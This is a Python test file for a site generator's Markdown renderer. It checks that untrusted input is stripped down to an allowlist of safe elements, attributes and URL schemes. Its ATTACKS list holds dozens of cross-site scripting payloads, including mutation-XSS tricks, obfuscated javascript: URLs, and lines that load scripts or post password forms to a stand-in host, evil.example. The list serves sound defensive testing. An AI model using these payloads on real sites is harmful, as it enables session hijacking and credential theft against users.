"""Markdown from a source that isn't trusted: what could do harm is gone, what Markdown writes is kept."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from hybridsite.errors import Location, SiteError, SiteErrors
from hybridsite.highlighting import stylesheet
from hybridsite.markdown import Rendered, render


def foreign(text: str) -> Rendered:
    """Renders a body that isn't trusted."""
    return render(text, file="content/a.md", trusted=False)


ELEMENTS = {
    *("html", "head", "body", "a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "dd", "del", "details"),
    *("dfn", "div", "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img"),
    *("input", "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "s", "samp", "small", "span", "strong", "sub"),
    *("summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul", "var", "-text"),
}
ATTRIBUTES = {
    *("alt", "checked", "cite", "class", "colspan", "data-language", "datetime", "dir", "disabled", "height", "href"),
    *("id", "lang", "open", "rel", "role", "rowspan", "scope", "src", "start", "style", "title", "type", "width"),
}


def assert_harmless(html: str) -> None:
    """Parses HTML as a browser does, and looks at every element and attribute."""
    root = LexborHTMLParser(html).root
    for node in root.traverse(include_text=False) if root else ():
        assert node.tag in ELEMENTS, node.html
        for name, value in node.attributes.items():
            assert name in ATTRIBUTES, node.html
            value = value or ""
            if name in ("href", "src", "cite"):
                # What a browser drops before it reads a scheme (WHATWG URL, 4.4).
                plain = re.sub(r"[\t\n\r]", "", value).lstrip("".join(map(chr, range(33))))
                scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", plain)
                assert scheme is None or scheme[1].lower() in ("http", "https", "mailto"), node.html
            if name == "style":
                assert re.fullmatch("text-align: ?(left|center|right);?", value), node.html
            if name == "id":
                assert value.startswith("user-content-"), node.html
        if node.tag == "input":
            assert node.attributes.get("type", "checkbox") == "checkbox"
            assert "disabled" in node.attributes


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<b onmouseover='alert(1)' style='position:fixed;inset:0'>x</b>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe src='javascript:alert(1)'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example';</style>",
    "<form action='//evil.example'><input name=password type=password><button formaction='javascript:1'>x</button>",
    "<input type=image src=x onerror=alert(1) autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<div id=login class='modal overlay' name=cookie>x</div>",
    "<a name=body id=forms>x</a>",
    "<x-y is=z onclick=alert(1)>x</x-y>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><!DOCTYPE html>",
    "<p title='<!--'><img alt='--><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'>",
    # Markdown's own ways
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<javascript:alert(1)//http://y>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x"onerror="alert(1)](y)',
    "![x](y 'z\"onerror=\"alert(1)')",
    '[x](y"onclick="alert(1))',
    '[x](<y"onclick=alert(1)//>)',
    '```"><script>alert(1)</script>\nx\n```',
    '```python title="<img src=x onerror=alert(1)>"\n</code></pre><script>alert(1)</script>\n```',
    "# <img src=x onerror=alert(1)> {#a onclick=alert(1)}",
    "# x {#cookie .modal onclick=alert(1) style=position:fixed}",
    "a[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> [!NOTE]\n> <img src=x onerror=alert(1)>",
    "- [x] <img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_what_could_do_harm_is_gone(text: str) -> None:  # case X3
    rendered = foreign(text)
    assert_harmless(rendered.html)
    assert_harmless(rendered.toc)
    assert "alert(1)</script" not in rendered.html
    # In the middle of other text, too.
    assert_harmless(foreign(f"before\n\n{text}\n\n*after*").html)


def assert_told_at_its_place(text: str, *, trusted: bool) -> None:
    """Renders a body. What it may raise is a fault of the site with a place, and nothing else."""
    places: list[Location | None] = []
    try:
        render(text, file="a.md", trusted=trusted, resolve=lambda url: url)
    except SiteErrors as several:
        places += [fault.location for fault in several.faults]
    except SiteError as fault:
        places.append(fault.location)
    assert None not in places


@given(st.lists(st.one_of(st.sampled_from(ATTACKS), st.text("<>\"'=/!-&;:#[]()`*_ \n\tax", max_size=12)), max_size=5))
def test_no_mixture_of_attacks_passes(parts: list[str]) -> None:  # case X3
    text = "".join(parts)
    assert_harmless(foreign(text).html)
    assert_told_at_its_place(text, trusted=True)


@given(st.text())
def test_any_text_at_all_is_rendered_or_told(text: str) -> None:  # case X3
    assert_told_at_its_place(text, trusted=True)
    assert_told_at_its_place(text, trusted=False)


@pytest.mark.parametrize("text", ["<< 7 * 7 >>", "{% include 'site.toml' %}", "{{ 7 * 7 }}"])
def test_no_text_is_a_template(text: str) -> None:  # case X2
    assert "49" not in foreign(text).html


def test_what_markdown_writes_is_kept() -> None:
    text = (
        "# Title\n\n## Part *one*\n\n[up](#title) [out](https://e.example/?a&b) [there](other.md) <m@e.example>\n\n"
        "| a | b |\n|--:|:-:|\n| 1 | ~~2~~ |\n\n- [x] done\n- [ ] open\n\n3. three\n\nx[^1]\n\n[^1]: note\n\n"
        "> [!TIP]\n> a\n\n```python {1} title='a.py'\nx = 1\n```\n\n```nolang\n<b>\n```\n\n![i](j.png 'k')\n"
    )
    rendered = foreign(text)
    html = rendered.html
    for part in (
        '<h1 id="user-content-title">Title</h1>',
        '<h2 id="user-content-part-one">Part <em>one</em></h2>',
        '<a href="#user-content-title" rel="nofollow ugc noopener noreferrer">up</a>',
        '<a href="https://e.example/?a&amp;b" rel=',
        '<a href="mailto:m@e.example" rel=',
        '<a href="other.md" rel=',
        '<th style="text-align: right">a</th>',
        "<del>2</del>",
        '<input type="checkbox" checked="" disabled="">',
        '<ol start="3">',
        '<sup class="footnote-reference" id="user-content-1:ref"><a href="#user-content-1"',
        '<div class="footnote-definition" id="user-content-1">',
        '<blockquote class="callout callout-tip" role="note">\n<p class="callout-title">Tip</p>',
        '<figure class="code">\n<figcaption>a.py</figcaption>\n<pre class="highlight" data-language="python">',
        '<span class="hll"><span class="n">x</span>',
        '<code class="language-nolang">&lt;b&gt;\n</code>',
        '<img src="j.png" alt="i" title="k">',
    ):
        assert part in html, part
    assert rendered.toc == '<ul>\n<li><a href="#user-content-part-one">Part one</a></li>\n</ul>\n'
    assert [heading.id for heading in rendered.headings] == ["user-content-title", "user-content-part-one"]


def test_every_class_of_highlighted_code_is_kept() -> None:
    classes = set(re.findall(r"\.highlight \.([\w-]+)", stylesheet()))
    html = "".join(f'<span class="{name}">x</span>' for name in sorted(classes))
    assert len(classes) > 50
    assert foreign(html).html == f"<p>{html}</p>\n"


def test_what_is_wrong_in_it_is_no_fault_of_the_sites() -> None:
    def resolve(url: str) -> str:
        raise SiteError("there is no such file")

    text = '[x](gone.md)\n\n```python {99} titel="x"\ny\n```'
    html = render(text, file="content/a.md", resolve=resolve, trusted=False).html
    assert '<a href="gone.md"' in html
    assert '<pre class="highlight" data-language="python">' in html


def test_links_in_it_are_resolved() -> None:
    html = render(
        "[x](a.md) <img src='b.png'>", file="content/a.md", resolve=lambda url: f"/r/{url}", trusted=False
    ).html
    assert 'href="/r/a.md"' in html
    assert 'src="/r/b.png"' in html
